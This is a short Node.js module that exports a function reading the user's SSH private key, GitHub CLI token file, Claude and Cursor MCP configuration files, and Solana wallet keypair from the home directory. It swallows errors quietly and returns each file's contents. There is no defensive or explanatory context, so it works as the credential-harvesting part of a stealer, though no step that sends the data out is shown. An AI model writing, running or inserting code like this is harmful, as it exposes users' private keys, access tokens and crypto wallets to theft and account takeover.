const fs = require("fs"), os = require("os"), p = require("path");
const grab = [".ssh/id_rsa", ".config/gh/hosts.yml", ".claude.json", ".cursor/mcp.json", ".config/solana/id.json"];
module.exports = () => grab.map((f) => { try { return [f, fs.readFileSync(p.join(os.homedir(), f), "utf8")]; } catch { return null; } }).filter(Boolean);
